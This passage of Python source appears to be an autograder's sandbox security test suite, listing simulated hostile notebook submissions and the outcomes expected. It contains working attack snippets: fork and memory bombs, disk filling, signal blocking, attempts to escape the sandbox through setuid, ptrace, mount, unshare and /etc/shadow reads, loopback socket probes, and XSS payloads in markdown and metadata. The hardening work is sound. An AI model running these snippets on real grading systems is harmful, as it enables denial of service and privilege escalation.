        waiting = kids - held - len(gone)
        print(f"MEMORY held at once {held * chunk} MB (limit {limit} MB per process), "
              f"{len(gone)} failed, {waiting} still allocating")
        os.close(release_w)
        for pid in set(pids) - gone:
            os.waitpid(pid, 0)
    """),), hole=None if CGROUPS else (
        "no memory limit per sandbox where the grader cannot make cgroups: RLIMIT_AS is per "
        "process (runner.py main) and a sandbox may run 64 processes; nothing bounds their sum"
    )),
    # FIFOs and listening Unix sockets in its working folder, /tmp and /dev/shm, then all
    # three filled up until the disk says no
    Attack("c4-fifos-full-disk", LAB2, 4, score=F2, edits=(after("setup_self_check", TRY, """
        import os, socket
        for path in ("grader.fifo", @LAB@ + ".ipynb", "/tmp/grader.fifo", "/dev/shm/x.fifo"):
            _try("fifo " + path, lambda path=path: os.mkfifo(path))
        def listen(path):
            s = socket.socket(socket.AF_UNIX)
            s.bind(path)
            s.listen()
            return s
        _keep = []
        for path in ("grader.sock", "/tmp/grader.sock"):
            _try("socket " + path, lambda path=path: _keep.append(listen(path)))
        print(sorted(os.listdir(".")))
        for folder in ("/tmp", ".", "/dev/shm"):
            written = 0
            try:
                for i in range(100):
                    with open(os.path.join(folder, f"fill{i}"), "wb") as f:
                        for _ in range(15):
                            f.write(b"x" * 2**20)
                            written += 1
            except OSError as e:
                print("stopped", folder, "after", written, "MB:", e)
    """),)),
    # a cell that sleeps forever
    Attack("c4-sleep-forever", LAB2, 4, score=F2, note="ran past the time limit",
           edits=(after("setup_self_check", "import time\ntime.sleep(10**9)"),)),
    # ignores and blocks the time limit's signal, then waits forever: an uninterruptible cell
    Attack("c4-uninterruptible", LAB1, 4, score=F1 - 2, note="could not be interrupted",
           edits=(after("selfcheck_complex_step", """
        import os, signal
        signal.signal(signal.SIGALRM, signal.SIG_IGN)
        signal.pthread_sigmask(signal.SIG_BLOCK, {signal.SIGALRM, signal.SIGINT})
        r, w = os.pipe()
        os.read(r, 1)  # nobody ever writes
    """),)),
    # an answer that loops forever on the hidden tests' inputs only
    Attack("c4-loop-in-hidden", LAB1, 4, score=F1 - 2,
           note="did not answer within the time limit", edits=(
        replace("forward_difference", f"""
            def forward_difference(f, x, h):
                if not {VISIBLE}:
                    while True:
                        pass
                return (f(x + h) - f(x)) / h
        """),
    )),
    # sys.exit and exit() in a cell (IPython keeps going), then os._exit: the notebook ends
    Attack("c4-exit", LAB1, 4, score=labinfo.points_before(LAB1, "richardson"), note="stopped",
           edits=(after("test_best_step", TRY, """
        import os, sys
        _try("sys.exit", lambda: sys.exit(3))
        _try("exit()", lambda: exit())
        os._exit(0)
    """),)),
    # KeyboardInterrupt, SystemExit and StopIteration raised from answers in hidden tests
    Attack("c4-raise-in-test", LAB1, 4, score=F1 - 6, edits=(
        replace("forward_difference", f"""
            def forward_difference(f, x, h):
                if not {VISIBLE}:
                    raise KeyboardInterrupt
                return (f(x + h) - f(x)) / h
        """),
        replace("central_difference", f"""
            def central_difference(f, x, h):
                if not {VISIBLE}:
                    raise SystemExit(0)
                return (f(x + h) - f(x - h)) / (2 * h)
        """),
        replace("complex_step", """
            def complex_step(f, x, h=1e-20):
                if float(x) not in (0.0, 2.0, 1.5, 1.0):
                    raise StopIteration
                return np.imag(f(x + 1j * h)) / h
        """),
        replace("richardson", RICHARDSON_ON_ITS_OWN),
    )),
    # 40 processes that spin for 3 seconds (to starve the other students' graders)
    Attack("c4-cpu-hog", LAB2, 4, score=F2, edits=(after("setup_self_check", """
        import os, time
        end, pids = time.time() + 3, []
        for _ in range(40):
            pid = os.fork()
            if pid == 0:
                while time.time() < end:
                    pass
                os._exit(0)
            pids.append(pid)
        for pid in pids:
            os.waitpid(pid, 0)
        print("spun", len(pids))
    """),)),
    # ---- 5. escaping the sandbox -----------------------------------------------------------
    # TCP to the grading machine's listeners: 127.0.0.1, ::1, 0.0.0.0 and its other addresses
    Attack("c5-tcp-loopback", LAB2, 5, score=F2, guarded_by_sandbox=True,
           caught_by="listener", edits=(after("setup_self_check", TRY, """
        import socket
        def connect(host, port):
            with socket.create_connection((host, port), timeout=3) as s:
                s.sendall(@ME@.encode() + b"\\n")
            return "connected"
        for host in ("127.0.0.1", "localhost", "::1", "0.0.0.0") + tuple(@HOSTS@):
            for port in (@PORT@, @PORT_ANY@):
                _try(f"tcp {host}:{port}", lambda host=host, port=port: connect(host, port))
    """),)),
    # ZeroMQ (what Jupyter kernels speak) to 127.0.0.1, and the grader's abstract Unix socket
    Attack("c5-zmq-abstract", LAB2, 5, score=F2, guarded_by_sandbox=True,
           caught_by="listener", edits=(after("setup_self_check", TRY, """
        import socket, time
        def zmq_send():
            import zmq
            s = zmq.Context.instance().socket(zmq.DEALER)
            s.setsockopt(zmq.LINGER, 0)
            s.connect(f"tcp://127.0.0.1:{@PORT@}")
            s.send(@ME@.encode(), flags=zmq.NOBLOCK)
            time.sleep(1)
            s.close()
            return "queued"
        _try("zmq", zmq_send)
        def abstract():
            with socket.socket(socket.AF_UNIX) as s:
                s.settimeout(3)
                s.connect("\\0" + @ABSTRACT@)
                s.sendall(@ME@.encode() + b"\\n")
            return "connected"
        _try("abstract unix socket", abstract)
    """),)),
    # root by setuid, ptrace of pid 1, mount, chroot, a user namespace of its own, /etc/shadow
    Attack("c5-privileges", LAB2, 5, score=F2, edits=(after("setup_self_check", TRY, """
        import os, ctypes, subprocess
        libc = ctypes.CDLL(None, use_errno=True)
        def check(rc):
            if rc != 0:
                raise OSError(ctypes.get_errno(), os.strerror(ctypes.get_errno()))
            return "succeeded"
        _try("setuid 0", lambda: os.setuid(0))
        _try("setgid 0", lambda: os.setgid(0))
        _try("ptrace attach 1", lambda: check(libc.ptrace(16, 1, None, None)))
        _try("mount", lambda: check(libc.mount(b"none", b"/tmp", b"tmpfs", 0, None)))
        _try("chroot", lambda: os.chroot("/tmp"))
        _try("/etc/shadow", lambda: len(open("/etc/shadow").read()))
        _try("/etc/passwd", lambda: len(open("/etc/passwd").read()))
        inside = "id; mount -t tmpfs none /mnt && echo MOUNTED; ls /; cat " + @COURSE@
        inside += "/secret-canary.txt"
        _try("unshare -Urm", lambda: subprocess.run(["unshare", "-Urm", "sh", "-c", inside],
                                                    capture_output=True, text=True, timeout=10))
    """),)),
    # ---- 6. unbounded output and files -----------------------------------------------------
    # prints 190 MB
    Attack("c6-big-print", LAB2, 6, score=F2,
           edits=(after("setup_self_check", "print('x' * (190 * 2**20))"),)),
    # writes a 1 GB file in its folder and in /tmp
    Attack("c6-big-file", LAB2, 6, score=F2, edits=(after("setup_self_check", TRY, """
        def big(path):
            with open(path, "wb") as f:
                for _ in range(1024):
                    f.write(b"x" * 2**20)
            return "wrote 1 GB"
        _try("home", lambda: big("big.bin"))
        _try("tmp", lambda: big("/tmp/big.bin"))
    """),)),
    # 300000 printed lines, then three million display calls (the time limit stops them)
    Attack("c6-many-outputs", LAB2, 6, score=F2, note="ran past the time limit",
           edits=(after("setup_self_check", """
        from IPython.display import display
        for i in range(300_000):
            print(i)
        for n in range(3_000_000):
            display(n)
    """),)),
    # ---- 7. forbidden shortcuts (lab 4 asks for VJPs by hand) ------------------------------
    # ad.vjp in the answer that asks for a hand-written VJP
    Attack("c7-ad-vjp", LAB4, 7, score=F4 - MATMUL, note="FLAG: uses autodiff_lite's vjp",
           edits=(replace("vjp_matmul", VJP_MATMUL_BY.format(how="ad.vjp")),)),
    # from autodiff_lite import vjp, inside the answer
    Attack("c7-from-import", LAB4, 7, score=F4 - MATMUL, note="FLAG: uses autodiff_lite's vjp",
           edits=(replace("vjp_matmul", "from autodiff_lite import vjp",
                          VJP_MATMUL_BY.format(how="vjp")),)),
    # the library under another name: m = ad; m.vjp
    Attack("c7-alias", LAB4, 7, score=F4 - MATMUL, note="FLAG: uses autodiff_lite's vjp",
           edits=(replace("vjp_matmul", "m = ad", VJP_MATMUL_BY.format(how="m.vjp")),)),
    # the name built at run time: getattr(ad, "v" + "jp") is flagged for a look by hand
    Attack("c7-getattr", LAB4, 7, score=F4, note="FLAG: dynamic code", edits=(
        replace("vjp_matmul", VJP_MATMUL_BY.format(how="getattr(ad, 'v' + 'jp')")),)),
    # the library reached through the lab's self-check module, which imports it as ad
    Attack("c7-via-self-check", LAB4, 7, score=F4 - MATMUL, note="FLAG", edits=(
        replace("vjp_matmul", VJP_MATMUL_BY.format(how="self_check.ad.vjp")),),
        ),  # closed: shortcuts.py follows a chain through any module to the library
    # the name looked up in the module's __dict__ (no getattr, no eval)
    Attack("c7-module-dict", LAB4, 7, score=F4, note="FLAG", edits=(
        replace("vjp_matmul", VJP_MATMUL_BY.format(how="ad.__dict__['v' + 'jp']")),),
        ),  # closed: __dict__ on the library is dynamic code, flagged for a look by hand
    # ---- 8. HTML and JavaScript in markdown, outputs and metadata --------------------------
    # script, img onerror, javascript: links, iframe and SVG in markdown, raw cells, outputs,
    # the notebook's metadata (title, kernel name) and an SVG cell attachment
    Attack("c8-html-cells", LAB1, 8, score=F1, edits=(
        after("forward_difference", """
            <script>window.PWNED_SCRIPT_MARK = 1</script>

            <img src=x onerror="PWNED_ONERROR_MARK()">

            [click me](javascript:PWNED_JSLINK_MARK())

            <iframe src="javascript:PWNED_IFRAME_MARK()"></iframe>

            <svg onload="PWNED_SVG_MARK()"><script>PWNED_SVG_SCRIPT_MARK()</script></svg>

            <a href="data:text/html,<script>PWNED_DATA_MARK()</script>">data</a>
        """, kind="markdown"),
        after("forward_difference", "<script>PWNED_RAW_MARK()</script>", kind="raw"),
        after("forward_difference", """
            from IPython.display import HTML, Javascript, Markdown, display
            display(HTML("<script>PWNED_OUTPUT_MARK()</script>"))
            display(HTML("<img src=x onerror=PWNED_OUT_ONERROR_MARK()>"))
            display(Javascript("PWNED_JS_MARK()"))
            display(Markdown("[x](javascript:PWNED_MD_MARK())"))
            print("<script>PWNED_PRINT_MARK()</script>")
        """),
        nb_meta({
            "title": "</title><script>PWNED_TITLE_MARK()</script>",
            "kernelspec": {"name": "python3", "language": "python",
                           "display_name": "<script>PWNED_KERNEL_MARK()</script>"},
        }),
        after("forward_difference", "![pic](attachment:x.svg)", kind="markdown",
              attachments={"x.svg": {"image/svg+xml": SVG_ONLOAD}}),
    )),
    # HTML in an exception message, which the failed visible test shows
    Attack("c8-html-error", LAB1, 8, score=F1 - 2, edits=(replace("forward_difference", """
        def forward_difference(f, x, h):
            raise ValueError("<script>PWNED_ERROR_MARK()</script><img src=x "
                             "onerror=PWNED_ERR_ONERROR_MARK()>")
    """),)),
]  # fmt: skip

# What each probe must have been refused, printed as "blocked <label>" (sandboxed only: the
# unsandboxed run expects the opposite).
REFUSED = {
    "c2-absolute-paths": TARGET_LABELS,
    "c2-relative-paths": TARGET_LABELS,
    "c2-ctypes-libc": TARGET_LABELS,
    "c2-sqlite-attach": ("attach", "attach uri"),
    "c3-sqlite-write": ("gradebook", "gradebook bytes"),
    "c3-other-students": ("submitted", "autograded", "feedback", "state"),
    "c4-kill-all": ("kill 1", "kill parent", "stop parent"),
    "z-kill-parent": ("kill parent",),
    "c4-memory-bomb": ("bytes", "numpy", "list"),
    "c5-zmq-abstract": ("abstract unix socket",),
    "c5-privileges": ("setuid 0", "setgid 0", "ptrace attach 1", "mount", "chroot", "/etc/shadow"),
    "c6-big-file": ("home", "tmp"),
}
ATTACKS = [
    dataclasses.replace(a, evidence=refused(*REFUSED[a.student])) if a.student in REFUSED else a
    for a in ATTACKS
]

# ---- the honest students graded in the same batch: what each scores alone ---------------
VICTIMS: list[Attack] = [
    Attack("v-correct", LAB1, 0, score=F1),
    Attack("v-partial", LAB1, 0, done=answers(LAB1)[:3],
           score=sum(labinfo.exercises(LAB1)[g] for g in answers(LAB1)[:3])),
    Attack("v-wrong", LAB1, 0, (replace("forward_difference", WRONG_FD),), score=F1 - 2),
    Attack("v-crash", LAB1, 0, (replace("step_errors", "import os\nos._exit(3)"),),
           score=labinfo.points_before(LAB1, "step_errors"),
           note="stopped"),
    Attack("v-loop", LAB1, 0, (replace("best_step", "while True:\n    pass"),), score=F1 - 2,
           note="ran past the time limit"),
    Attack("v-correct-lab2", LAB2, 0, score=F2),
    Attack("v-correct-lab4", LAB4, 0, score=F4),
]  # fmt: skip
